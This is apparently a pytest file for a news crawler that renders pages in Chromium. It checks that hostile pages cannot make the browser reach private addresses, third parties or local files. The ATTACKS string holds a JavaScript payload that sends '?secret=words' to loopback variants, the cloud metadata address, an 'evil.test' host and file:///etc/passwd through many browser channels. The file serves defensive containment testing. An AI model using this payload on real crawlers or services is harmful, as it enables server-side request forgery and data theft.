"""Pages that need a browser, in a real Chromium: what it reads, and what it can never reach."""

from __future__ import annotations

import asyncio
import os
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import NamedTuple

import pytest
from harness import ROOT, Ran, crawl, logs, marsad, paragraphs, rows, workspace
from newsroom.hostile import CanaryListener, Entry, Exchange, HostileNewsroom, Reply
from newsroom.relay import Relay

from crawler.engine import browsermemory
from crawler.engine.browser import browser_problem, find_chromium, is_sandboxed
from crawler.engine.browsermemory import watch_memory
from crawler.engine.capture import read_capture
from crawler.reading.warc import page_from_record
from crawler.workspace import Workspace
from storage.models import CapturePlace

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(browser_problem() is not None, reason=str(browser_problem())),
]

APP = """<!doctype html><html lang="en"><head><meta charset="windows-1256"><title>Loading</title>
<link rel="stylesheet" href="/style.css"><link rel="icon" href="/icon.png"></head>
<body><div id="app"></div><img src="/picture.png"><video src="/film.mp4"></video>
<script src="/app.js"></script>{more}</body></html>"""
SCRIPT = """fetch('/api/{seed}').then(answer => answer.json()).then(article => {{
  document.title = article.headline;
  document.getElementById('app').innerHTML = '<article><h1>' + article.headline + '</h1>' +
    article.paragraphs.map(text => '<p>' + text + '</p>').join('') + '</article>';
}})"""


BUSY = "{ const end = Date.now() + 1500; while (Date.now() < end) {} }"
"""Longer than the browser waits for a further request before it calls a page quiet."""


def put_app(
    newsroom: HostileNewsroom, host: str, seed: int, more: str = "", before: str = ""
) -> None:
    """An outlet whose one article is written by a script, and its feed; `before` runs first."""
    newsroom.feed(host, "/feed", [Entry(f"/a/{seed}", f"Report number {seed}")])
    newsroom.article(host, f"/a/{seed}", APP.replace("{more}", more).encode())
    script = SCRIPT.replace("{seed}", str(seed)).replace("{{", "{").replace("}}", "}")
    newsroom.article(host, "/app.js", (before + script).encode(), content_type="text/javascript")
    said = ",".join(f'"{text}"' for text in paragraphs(seed))
    article = f'{{"headline": "Report number {seed}", "paragraphs": [{said}]}}'
    newsroom.article(host, f"/api/{seed}", article.encode(), content_type="application/json")


def rendered(place: Workspace, *outlets: str) -> None:
    """Have outlets read with a browser."""
    for outlet in outlets:
        file = place.outlets_dir / "iq" / f"{outlet}.toml"
        file.write_text("render = true\n" + file.read_text(encoding="utf-8"), encoding="utf-8")


ATTACKS = """<script>
fetch('/away').catch(() => 0); fetch('/out').catch(() => 0);
const places = ['127.0.0.1:{port}', 'localhost:{port}', '[::1]:{port}', '2130706433:{port}',
  '0x7f000001:{port}', '127.1:{port}', '0.0.0.0:{port}', '[::ffff:127.0.0.1]:{port}',
  'foo.localhost:{port}', '169.254.169.254', 'inner.evil.test:{port}'];
for (const place of places) {{
  const url = 'http://' + place + '/?secret=words';
  fetch(url).catch(() => 0);
  fetch(url, {{method: 'POST', mode: 'no-cors', body: 'x'}}).catch(() => 0);
  const xhr = new XMLHttpRequest(); xhr.open('GET', url); xhr.onerror = () => 0; xhr.send();
  new Image().src = url;
  navigator.sendBeacon(url, 'x');
  try {{ new WebSocket('ws://' + place + '/'); }} catch (wrong) {{}}
  try {{ new EventSource(url); }} catch (wrong) {{}}
  for (const [tag, key] of [['iframe', 'src'], ['script', 'src'], ['object', 'data'],
                            ['embed', 'src'], ['video', 'src'], ['audio', 'src']]) {{
    const made = document.createElement(tag); made[key] = url; document.body.append(made);
  }}
  for (const rel of ['stylesheet', 'preload', 'prefetch', 'preconnect', 'dns-prefetch',
                     'modulepreload', 'prerender', 'manifest', 'icon']) {{
    const link = document.createElement('link');
    link.rel = rel; link.href = url; link.as = 'script'; document.head.append(link);
  }}
  window.open(url);
}}
const worker = new Worker(URL.createObjectURL(new Blob([
  "for (const p of " + JSON.stringify(places) + ") {{ fetch('http://' + p + '/').catch(() => 0);" +
  " try {{ new WebSocket('ws://' + p + '/'); }} catch (wrong) {{}}" +
  " try {{ importScripts('http://' + p); }} catch (wrong) {{}} }}"
])));
const frame = document.createElement('iframe');
frame.srcdoc = "<script>fetch('http://127.0.0.1:{port}/'); new WebSocket('ws://127.0.0.1:{port}/')<\\/script>";
document.body.append(frame);
fetch('http://ads.test:{news}/ad.js').catch(() => 0);
new Image().src = 'http://ads.test:{news}/pixel.gif';
try {{ new WebSocket('ws://ads.test:{news}/'); }} catch (wrong) {{}}
fetch('file:///etc/passwd').catch(() => 0);
alert('stay'); confirm('stay');
try {{
  const call = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{udp}'}},
    {{urls: 'turn:127.0.0.1:{port}?transport=tcp', username: 'a', credential: 'b'}}]}});
  call.createDataChannel('x'); call.createOffer().then(offer => call.setLocalDescription(offer));
}} catch (wrong) {{}}
try {{ new WebTransport('https://127.0.0.1:{udp}/'); }} catch (wrong) {{}}
try {{ navigator.serviceWorker.register('/app.js').catch(() => 0); }} catch (wrong) {{}}
const drop = document.createElement('a'); drop.href = '/app.js'; drop.download = 'x'; drop.click();
</script><meta http-equiv="refresh" content="1; url=http://127.0.0.1:{port}/refreshed">
<script>setTimeout(() => location = 'http://127.0.0.1:{port}/moved', 300)</script>
<script src="http://ads.test:{news}/first.js"></script>"""


class World(NamedTuple):
    """One crawl of many outlets that need a browser, and what was seen of it from outside."""

    place: Workspace
    ran: Ran
    seen: list[tuple[str, str]]
    visitors: list[tuple[str, int]]
    datagrams: int
    agents: set[str]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with ExitStack() as stack:
        newsroom = stack.enter_context(HostileNewsroom())
        canary = stack.enter_context(CanaryListener())
        canary6 = stack.enter_context(CanaryListener("::1", canary.port))
        udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        hosts = put_world(newsroom, canary.port, udp.getsockname()[1])
        root = tmp_path_factory.mktemp("render") / "w"
        place = workspace(root, newsroom.port, hosts, timeout_seconds=20.0, max_bytes=400_000)
        rendered(place, *(host.split(".")[0] for host in hosts if host != "plain.test"))
        list_only(place, newsroom)
        ran = crawl(place)
        datagrams = 0
        while True:
            try:
                udp.recv(2048)
            except BlockingIOError:
                break
            datagrams += 1
        seen = [(each.host, each.path) for each in newsroom.seen()]
        agents = {each.headers.get("user-agent", "") for each in newsroom.seen()}
        visitors = canary.visitors + canary6.visitors
        yield World(place, ran, seen, visitors, datagrams, agents)


def put_world(newsroom: HostileNewsroom, port: int, udp: int) -> list[str]:
    """The outlets of the world, each with one article."""
    hosts = {"app.test": 1, "plain.test": 2, "evil.test": 3, "endless.test": 4}
    hosts |= {"inward.test": 5, "outward.test": 6, "huge.test": 7, "file.test": 8, "rules.test": 9}
    attacks = ATTACKS.replace("{{", "{").replace("}}", "}").replace("{port}", str(port))
    attacks = attacks.replace("{news}", str(newsroom.port)).replace("{udp}", str(udp))
    for host, seed in hosts.items():
        put_app(newsroom, host, seed, attacks if host == "evil.test" else "")
    put_app(newsroom, "app.test", 1, before=BUSY)
    away = [("Location", f"http://127.0.0.1:{port}/away"), ("Access-Control-Allow-Origin", "*")]
    newsroom.put("evil.test", "/away", Reply(status=302, headers=away))
    out = [("Location", newsroom.url("ads.test", "/out")), ("Access-Control-Allow-Origin", "*")]
    newsroom.put("evil.test", "/out", Reply(status=302, headers=out))
    endless = "<script>setTimeout(() => { while (true) {} }, 1500)</script>"
    put_app(newsroom, "endless.test", 4, endless)
    newsroom.put("inward.test", "/a/5", Reply(status=302, headers=away[:1]))
    newsroom.put("outward.test", "/a/6", Reply(status=302, headers=out[:1]))
    newsroom.article("ads.test", "/out", b"<h1>Buy</h1>")
    huge = "<script>document.body.append('x'.repeat(500000))</script>"
    put_app(newsroom, "huge.test", 7, huge)
    newsroom.article("file.test", "/a/8", b"PK\3\4", content_type="application/zip")
    put_app(newsroom, "rules.test", 9, "<script src='/forbidden/more.js'></script>")
    newsroom.robots("rules.test", "User-agent: *\nDisallow: /forbidden/\n")
    put_app(newsroom, "list.test", 10)
    links = (
        "<script>for (let n = 10; n < 16; n++) document.write(`<p><a href=/a/${n}>Report number "
    )
    listing = f"<h1>News</h1>{links}${{n}} was published</a></p>`)</script>"
    newsroom.article("list.test", "/", listing.encode())
    return [*hosts, "list.test"]


def list_only(place: Workspace, newsroom: HostileNewsroom) -> None:
    """Have one outlet found by its front page, whose links a script writes."""
    file = place.outlets_dir / "iq" / "list.toml"
    head = file.read_text(encoding="utf-8").partition("[[feeds]]")[0]
    way = f"url = '{newsroom.url('list.test')}'\narticle = '^/a/'\ngrade = 'A'\nevidence = 'seen'\n"
    file.write_text(f"{head}[[listings]]\n{way}", encoding="utf-8")


def ends(world: World) -> dict[str, str]:
    """How each outlet's one article ended."""
    return {
        each["outlet_id"].removeprefix("iq_"): "".join(sorted(each["outcomes"]))
        for each in world.ran.data["outlets"]
    }


def test_each_page_ends_as_it_should(world: World) -> None:
    assert ends(world) == {
        "app": "stored_new",
        "plain": "no_text",
        "evil": "stored_new",
        "endless": "stored_new",
        "inward": "unsafe_address",
        "outward": "foreign",
        "huge": "too_large",
        "file": "http_error",
        "rules": "stored_new",
        "list": "gonestored_new",
    }
    assert world.ran.data["balanced"]


def test_a_listing_that_a_script_writes_is_read(world: World) -> None:
    assert world.ran.outlet("iq_list")["outcomes"] == {"stored_new": 1, "gone": 5}
    assert world.ran.outlet("iq_list")["visit_outcomes"] == {"read": 1}


def test_a_page_that_its_script_writes_is_read(world: World) -> None:
    sql = "SELECT a.headline, t.text FROM articles a JOIN article_texts t ON t.article_id = a.id"
    texts = dict(rows(world.place, f"{sql} WHERE a.outlet_id = 'iq_app'"))
    assert list(texts) == ["Report number 1"]
    assert all(text in texts["Report number 1"] for text in paragraphs(1))
    [(methods,)] = rows(
        world.place,
        "SELECT t.methods FROM articles a JOIN article_texts t ON t.article_id = a.id"
        " WHERE a.outlet_id = 'iq_app'",
    )
    assert '"rendered by Chromium/' in methods


def test_no_private_address_is_ever_reached(world: World) -> None:
    assert world.visitors == [] and world.datagrams == 0
    notes = dict(rows(world.place, "SELECT key, value FROM run_notes"))
    assert int(notes["render_refused"]) > 20 and int(notes["rendered"]) >= 8
    told = logs(world.place)
    assert "outlet=iq_evil refused host=127.0.0.1 times=" in told
    assert "secret=words" not in told, "hosts only"


def test_third_parties_and_decoration_are_never_asked_for(world: World) -> None:
    # What the feed of outward.test led to by a redirect was asked for, without a browser.
    assert {path for host, path in world.seen if host == "ads.test"} <= {"/robots.txt", "/out"}
    assert ("evil.test", "/out") in world.seen, "the page did try"
    paths = {path for _, path in world.seen}
    assert "/style.css" in paths and "/app.js" in paths
    assert not paths & {"/picture.png", "/film.mp4", "/icon.png", "/favicon.ico"}


def test_robots_are_asked_for_what_a_page_asks_for(world: World) -> None:
    assert ("rules.test", "/forbidden/more.js") not in world.seen


def test_a_browser_says_honestly_who_it_is(world: World) -> None:
    assert world.agents == {"Marsad/0.1 (news monitoring for research; +tests@marsad.test)"}


def test_what_a_browser_made_is_kept_as_that_and_can_be_read_again(world: World) -> None:
    sql = """SELECT f.capture_file, f.capture_offset, f.capture_length, f.ip FROM fetches f
             JOIN candidates c ON c.id = f.candidate_id WHERE c.outlet_id = 'iq_app'"""
    [(file, offset, length, ip)] = rows(world.place, sql)
    page = page_from_record(read_capture(world.place.warc_dir, CapturePlace(file, offset, length)))
    assert page.rendered.startswith("Chromium/") and page.status == 200 and ip == "127.0.0.1"
    assert paragraphs(1)[0] in page.body.decode()
    assert page.header("content-type") == "text/html; charset=utf-8"
    assert "user-agent" in {name.lower() for name, _ in page.request_headers}
    again = marsad("reread", "--outlet", "iq_app", "--json", "--workspace", str(world.place.root))
    assert again.code == 0, again.stderr


def test_nothing_of_the_browser_is_left(world: World) -> None:
    assert not list(Path("/tmp").glob("marsad-browser-*"))


GREEDY = """<script>const kept = [];
setInterval(() => kept.push(new Uint8Array(5e7).fill(1)), 5)</script>"""


def test_a_page_that_takes_too_much_memory_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    from playwright.async_api import async_playwright

    async def run() -> None:
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(
                executable_path=find_chromium(), chromium_sandbox=is_sandboxed()
            )
            watch = asyncio.ensure_future(watch_memory(browser))
            page, crashed = await browser.new_page(), asyncio.Event()
            page.on("crash", lambda _: crashed.set())
            await page.set_content(GREEDY, wait_until="commit")
            await asyncio.wait_for(crashed.wait(), 20)
            watch.cancel()
            await browser.close()

    monkeypatch.setattr(browsermemory, "MAX_PAGE_MEMORY", 500_000_000)
    asyncio.run(run())


# ---------------------------------------------------------------- when the browser is not there


def test_without_a_browser_pages_wait_and_with_one_they_are_read(tmp_path: Path) -> None:
    """Then through an egress, to which the guard proxy passes everything on."""
    with HostileNewsroom() as newsroom, Relay(newsroom.port) as relay:
        put_app(newsroom, "app.test", 1)
        place = workspace(tmp_path / "w", newsroom.port, ["app.test"])
        rendered(place, "app")
        nowhere = {"MARSAD_CHROMIUM": "/nowhere/chromium"}
        at = ("--workspace", str(place.root))
        checked = marsad("outlets", "check", *at, env=nowhere)
        assert checked.code == 0 and "iq_app" in checked.stderr and "Chromium" in checked.stderr
        first = marsad("crawl", "--all", "--json", *at, env=nowhere)
        assert first.outlet("iq_app")["outcomes"] == {"postponed": 1}
        assert "there is no Chromium" in first.stdout + logs(place) + str(reasons(place))
        with (place.root / "marsad.toml").open("a") as file:
            file.write(f'[[egress]]\nname = "relay"\nproxy = "{relay.url}"\n')
        newsroom.requests.clear()
        second = crawl(place, "--all", "--egress", "relay")
        assert second.outlet("iq_app")["outcomes"] == {"stored_new": 1}
        asked = {each.split("/", 3)[-1] for each in relay.asked}
        assert {"a/1", "app.js", "api/1"} <= asked
        assert len(newsroom.seen()) == len(relay.asked), "nothing went past it"


def reasons(place: Workspace) -> list[object]:
    """Why candidates wait or ended."""
    return [each for (each,) in rows(place, "SELECT reason FROM outcomes")]


class Held:
    """A path that answers only after it was let go, and tells when somebody waits there."""

    def __init__(self) -> None:
        self.met, self.go = threading.Event(), threading.Event()

    def __call__(self, exchange: Exchange) -> None:
        self.met.set()
        self.go.wait(20)
        Reply(b"0", content_type="text/javascript")(exchange)


def below(leader: int) -> dict[int, str]:
    """The processes that a process started, and those that they started, with their names."""
    parents: dict[int, tuple[int, str]] = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            head, _, tail = stat.read_text().rpartition(")")
        except OSError:
            continue
        if tail.split()[0] != "Z":
            parents[int(stat.parent.name)] = (int(tail.split()[1]), head.partition("(")[2])
    found = {leader: "crawl"}
    for _ in range(8):
        found |= {pid: name for pid, (parent, name) in parents.items() if parent in found}
    return found


def crawling(place: Workspace, folder: Path) -> subprocess.Popen[bytes]:
    """A crawl of all, whose temporary files go to a folder of its own."""
    command = [sys.executable, "-m", "crawler.cli.main", "crawl", "--all", "-w", str(place.root)]
    return subprocess.Popen(
        command,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT), "TMPDIR": str(folder)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


def alive(processes: dict[int, str]) -> dict[int, str]:
    return {pid: name for pid, name in processes.items() if lives(pid)}


def lives(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return False


def test_a_browser_that_dies_costs_no_more_than_its_page(tmp_path: Path) -> None:
    """And after kill -9 of the crawl, no browser and no file of it stays."""
    held = Held()
    # A short path: the browser opens sockets in it, and their names have a limit.
    with HostileNewsroom() as newsroom, tempfile.TemporaryDirectory() as folder:
        put_app(newsroom, "app.test", 1, '<script src="/held.js"></script>')
        put_app(newsroom, "other.test", 2)
        newsroom.put("app.test", "/held.js", held)
        place = workspace(
            tmp_path / "w", newsroom.port, ["app.test", "other.test"], timeout_seconds=10.0
        )
        rendered(place, "app", "other")
        with crawling(place, Path(folder)) as crawl_:
            assert held.met.wait(30)
            processes = below(crawl_.pid)
            browsers = [pid for pid, name in processes.items() if name == "chromium"]
            assert browsers
            crawl_.kill()
            deadline = time.monotonic() + 10
            while (left := alive(processes)) and time.monotonic() < deadline:
                time.sleep(0.1)
            assert not left
        held.met.clear()
        with crawling(place, Path(folder)) as crawl_:
            assert held.met.wait(30)
            main = min(pid for pid, name in below(crawl_.pid).items() if name == "chromium")
            held.go.set()
            os.kill(main, signal.SIGKILL)
            assert crawl_.wait(60) == 0
        left_behind = [path.name for path in Path(folder).iterdir()]
        assert not [n for n in left_behind if n.startswith(("playwright", "marsad-browser"))]
    assert rows(place, "SELECT count(*) FROM articles") == [(2,)]
